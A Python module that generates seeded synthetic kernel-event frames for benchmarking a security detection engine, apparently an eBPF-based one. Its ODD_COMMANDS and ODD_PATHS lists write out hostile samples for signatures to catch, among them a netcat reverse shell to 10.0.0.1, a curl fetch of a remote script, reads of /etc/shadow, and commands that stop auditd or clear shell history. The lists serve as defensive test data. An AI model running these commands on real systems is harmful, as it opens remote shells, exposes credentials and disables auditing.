"""Frames made by hand for the benchmarks of detection: a mixed load with many distinct paths, and storms of execs.

Everything comes from a seed, so that two runs measure the same. The records are what the kernel side writes
(bpf/layout.py): opens with walked paths, reads, connects, forks and execs with all of their arguments.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np

from headrace.bpf.layout import BITMAP_WORDS, CELL_BYTES, CONTEXT, FRAME, FRAME_CELLS, FRAME_VERSION, SOURCE_KERNEL
from headrace.bpf.tables.catalogue import catalogue

Array = np.ndarray[Any, Any]
HEAD = struct.Struct("<QqHHHBBQ")
BLOB = struct.Struct("<HBBI")
ROOM_CELLS = FRAME_CELLS - 150
"""A frame is closed when the longest record might not fit."""
DISTINCT_PATHS = 100_000
PROCESSES = 200
ODD_ONES = 1000
"""One in so many opens and execs is what signatures look for."""
ODD_PATHS = ("/etc/shadow", "/etc/sudoers", "/proc/1/mem", "/home/a/.ssh/authorized_keys", "/var/run/docker.sock")
ODD_COMMANDS = (
    "nc -e /bin/sh 10.0.0.1 4444",
    "base64 -d /tmp/x",
    "chattr -i /etc/passwd",
    "systemctl stop auditd",
    "bash -i",
    "curl -k http://10.0.0.1/x.sh",
    "cat /etc/shadow",
    "crontab -l",
    "history -c",
)
LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"


def context(tgid: int, comm: bytes) -> bytes:
    """A process on the host."""
    one = np.zeros(1, CONTEXT)
    for name in ("tgid", "tid", "ns_tgid", "ns_tid"):
        one[name] = tgid
    one["process_start_ns"] = one["thread_start_ns"] = tgid
    one["ppid"], one["uid"], one["comm"], one["nodename"] = 1, 1000, comm, b"bench"
    one["exe_inode"], one["exe_dev"] = tgid, 1
    return one.tobytes()


def _blob(argument: int, data: bytes) -> bytes:
    return BLOB.pack(len(data), argument, SOURCE_KERNEL, 0) + data + bytes(-len(data) % 8)


def record(event: str, time_ns: int, args: list[int], blobs: dict[int, bytes], retval: int = 0) -> tuple[int, bytes]:
    """A record without its context: (offset of that in the bytes, bytes)."""
    found = catalogue().by_name[event]
    values = [*args, *[0] * (found.cells - len(args))][: found.cells]
    rest = b"".join(struct.pack("<Q", v & 2**64 - 1) for v in values[1:])
    rest += bytes(-len(rest) % CELL_BYTES) + b"".join(_blob(a, d) for a, d in sorted(blobs.items()))
    rest += bytes(-len(rest) % CELL_BYTES)
    first = values[0] & 2**64 - 1 if values else 0
    cells = 1 + len(rest) // CELL_BYTES
    return 18, HEAD.pack(time_ns, retval, found.id, 0, cells, 0, len(blobs), first) + rest


@dataclass
class Frames:
    """Fills frames, and gives out those that are full."""

    sequence: int = 0

    def __post_init__(self) -> None:
        self._begin()

    def _begin(self) -> None:
        self._cells = bytearray()
        self._bitmap, self._heads, self._at, self._who = 0, 0, 0, b""
        self._first = self._last = 0

    def add(self, who: bytes, made: tuple[int, bytes], time_ns: int) -> Iterator[Array]:
        """One record; a frame if it was full."""
        if len(self._cells) // CELL_BYTES + len(made[1]) // CELL_BYTES > ROOM_CELLS:
            yield self.close()
        if who != self._who:
            self._who, self._at = who, len(self._cells) // CELL_BYTES
            self._cells += who
        self._bitmap |= 1 << len(self._cells) // CELL_BYTES
        at, data = made
        self._cells += data[:at] + struct.pack("<H", self._at) + data[at + 2 :]
        self._heads += 1
        self._first, self._last = self._first or time_ns, time_ns

    def close(self) -> Array:
        """What there is, as a frame."""
        header = np.zeros(1, FRAME)
        header["size"] = FRAME.itemsize - 4 + len(self._cells)
        header["sequence"], header["first_ns"], header["last_ns"] = self.sequence, self._first, self._last
        header["version"], header["heads"], header["used"] = FRAME_VERSION, self._heads, len(self._cells)
        header["shards"] = 1
        header["bitmap"] = np.frombuffer(self._bitmap.to_bytes(8 * BITMAP_WORDS, "little"), "<u8")
        frame = np.frombuffer(header.tobytes() + bytes(self._cells), "u1")
        self.sequence += 1
        self._begin()
        return frame


def walked(path: str) -> bytes:
    """A path as the kernel side walks it: leaf first."""
    return b"".join(part.encode() + b"\0" for part in reversed(path.strip("/").split("/"))) + b"/\0"


def word(chance: random.Random, least: int = 3, most: int = 10) -> str:
    """Letters and digits."""
    return "".join(chance.choices(LETTERS, k=chance.randint(least, most)))


def mixed(events: int, seed: int = 1) -> list[Array]:
    """Half opens of DISTINCT_PATHS paths, 39 in 100 reads, 10 connects, 1 exec."""
    chance = random.Random(seed)
    folders = ["/".join(word(chance) for _ in range(chance.randint(1, 4))) for _ in range(500)]
    paths = [walked(f"/{chance.choice(folders)}/{word(chance)}{i}.dat") for i in range(DISTINCT_PATHS)]
    who = [context(1000 + i, f"p{i % 40}".encode()) for i in range(PROCESSES)]
    frames = Frames()
    made: list[Array] = []
    for i in range(events):
        time_ns = 1_000_000 + i * 1000
        made += frames.add(who[(i // 64) % PROCESSES], _one(chance, paths, time_ns), time_ns)
    return [*made, frames.close()]


def _one(chance: random.Random, paths: list[bytes], time_ns: int) -> tuple[int, bytes]:
    kind = chance.random()
    if kind < 0.5:
        flags = 0o100001 if chance.random() < 0.2 else 0o100000
        path = chance.choice(paths) if chance.randrange(ODD_ONES) else walked(chance.choice(ODD_PATHS))
        return record("security_file_open", time_ns, [0, flags, 1, 2, 3, 0, 257], {0: path, 5: path})
    if kind < 0.89:
        return record("read", time_ns, [3, 0x7000, 4096], {}, retval=chance.randint(0, 4096))
    if kind < 0.99:
        address = bytes([2, 0, 1, 187, 10, 0, chance.randint(0, 15), chance.randint(0, 255)]) + bytes(8)
        return record("security_socket_connect", time_ns, [chance.randint(3, 9), 0], {1: address})
    return executed(chance, time_ns)


def executed(chance: random.Random, time_ns: int) -> tuple[int, bytes]:
    """An exec with a command line that no other has."""
    argv = [word(chance), *(word(chance, 2, 16) for _ in range(6)), str(time_ns)]
    if not chance.randrange(ODD_ONES):
        argv = chance.choice(ODD_COMMANDS).split()
    path = f"/usr/bin/{argv[0]}"
    texts = {
        0: path.encode() + b"\0",
        1: walked(path),
        2: b"".join(a.encode() + b"\0" for a in argv),
        3: b"PATH=/usr/bin\0HOME=/root\0TERM=xterm\0",
        10: path.encode() + b"\0",
        11: walked("/usr/lib/ld-linux.so.2"),
        14: b"sh\0",
        15: walked("/root"),
    }
    return record("sched_process_exec", time_ns, [], texts)


def exec_storm(events: int, seed: int = 2) -> list[Array]:
    """Every process runs once, each with a command line of its own."""
    chance = random.Random(seed)
    frames = Frames()
    made: list[Array] = []
    for i in range(events):
        time_ns = 1_000_000 + i * 1000
        made += frames.add(context(1000 + i, b"run"), executed(chance, time_ns), time_ns)
    return [*made, frames.close()]
